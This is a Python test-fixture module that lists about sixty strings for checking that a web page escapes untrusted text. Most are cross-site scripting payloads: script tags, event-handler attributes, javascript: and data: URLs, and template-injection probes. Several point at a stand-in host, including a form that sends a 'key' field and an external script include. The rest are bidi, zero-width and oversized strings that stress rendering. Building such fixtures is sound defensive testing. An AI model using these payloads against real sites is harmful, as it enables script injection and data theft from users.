"""Texts that would do harm in a page that does not treat them as text: sixty of them."""

from __future__ import annotations

MARKUP = (
    "<script>window.harm=1</script>",
    "</script><script>window.harm=1</script>",
    "<img src=x onerror=window.harm=1>",
    '"><img src=x onerror=window.harm=1>',
    "'><svg onload=window.harm=1>",
    "<svg/onload=window.harm=1>",
    "<svg><script>window.harm=1</script></svg>",
    "<svg><a xlink:href='javascript:window.harm=1'><text>x</text></a></svg>",
    "<iframe src=javascript:window.harm=1></iframe>",
    "<iframe srcdoc='<script>parent.harm=1</script>'></iframe>",
    "<object data=javascript:window.harm=1>",
    "<embed src=javascript:window.harm=1>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=key></form>",
    "<a href=javascript:window.harm=1>click</a>",
    "<a href='//evil.example'>click</a>",
    "<details open ontoggle=window.harm=1>",
    "<body onload=window.harm=1>",
    "<input autofocus onfocus=window.harm=1>",
    "<video><source onerror=window.harm=1></video>",
    "<math><mtext><script>window.harm=1</script></mtext></math>",
    "<template><script>window.harm=1</script></template>",
    "</textarea><script>window.harm=1</script>",
    "</title><script>window.harm=1</script>",
    "<!--><script>window.harm=1</script>-->",
    "<![CDATA[<script>window.harm=1</script>]]>",
    "{{ 7*7 }} {% raw %} {{ view.token }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "<div hx-get='//evil.example' hx-trigger=load>",
    "<div hx-on:load='window.harm=1'>",
    "<b data-chart='{}'>x</b>",
    "&lt;script&gt;window.harm=1&lt;/script&gt;",
    "&#60;script&#62;window.harm=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.harm=1",
    "<time data-show=minute datetime=x>",
    "<ScRiPt>window.harm=1</sCrIpT>",
    "<script/src=//evil.example/x.js>",
    "<\x0bscript>window.harm=1</script>",
)
LINKS = (
    "javascript:window.harm=1",
    "JaVaScRiPt:window.harm=1",
    "java\tscript:window.harm=1",
    "data:text/html,<script>window.harm=1</script>",
    "vbscript:harm",
    "//evil.example/x",
    "https://evil.example/?q=<script>",
    "[click](javascript:window.harm=1)",
    "![x](//evil.example/x.png)",
)
SHAPES = (
    "W" * 10_000,
    "\u202eright to left\u202d and back",
    "\u05e9\u05dc\u05d5\u05dd abc \u0627\u0644\u0639",
    "\u200b\u200b\u200b",
    "a\u200b\u200db\ufeffc",
    "Z\u0351\u036b\u0343\u036a" * 200,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50,
    "\n" * 60 + "end",
    "\t" * 300,
    "\u2066\u2067\u2068 isolates never closed",
)
TEXTS = (*MARKUP, *LINKS, *SHAPES)

# The same as ids, names, titles and facts can hold them: one line, no control characters, not too long.
IDS = tuple(
    dict.fromkeys(text[:200] for text in TEXTS if text.strip() and text.isprintable() and text.strip("\u200b\ufeff"))
)
